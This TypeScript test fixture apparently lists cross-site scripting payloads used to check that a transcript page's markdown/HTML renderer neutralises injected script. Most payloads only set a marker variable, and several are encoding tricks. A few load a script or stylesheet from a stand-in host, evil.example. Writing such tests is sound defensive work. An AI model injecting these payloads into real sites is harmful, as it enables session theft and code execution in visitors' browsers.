/**
 * Script-injection payloads for the transcript page's tests. Each one, should it ever run, sets
 * `window.__xss` or opens a dialog, so a browser test can tell; a renderer test checks the markup.
 */
export const XSS_PAYLOADS: readonly string[] = [
  "<script>window.__xss=1</script>",
  '<img src=x onerror="window.__xss=2">',
  '<svg onload="window.__xss=3"><circle r=1 /></svg>',
  "[click me](javascript:window.__xss=4)",
  '<a href="javascript:window.__xss=5">link</a>',
  "[tab trick](java&#x09;script:window.__xss=6)",
  "[entity trick](&#106;avascript:window.__xss=7)",
  "[colon trick](javascript&colon;window.__xss=8)",
  '"><script>window.__xss=9</script>',
  "' onmouseover='window.__xss=10' x='",
  '<iframe srcdoc="<script>parent.__xss=11</script>"></iframe>',
  '<details open ontoggle="window.__xss=12">x</details>',
  "&lt;script&gt;window.__xss=13&lt;/script&gt;",
  "[data](data:text/html,<script>alert(14)</script>)",
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=15">',
  "`</code><script>window.__xss=16</script>`",
  "<style>@import 'https://evil.example/x.css';</style>",
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=17">',
  '<form action="javascript:window.__xss=18"><button>go</button></form>',
  "[ref link][r]\n\n[r]: javascript:window.__xss=19",
  "<javascript:window.__xss=20>",
  '![img](x" onerror="window.__xss=21)',
  '<object data="javascript:window.__xss=22"></object>',
  '<embed src="javascript:window.__xss=23">',
  "\u2028<script>window.__xss=24</script>\u2029",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<a href="&#x6A;avascript:window.__xss=25">hex entity</a>',
];
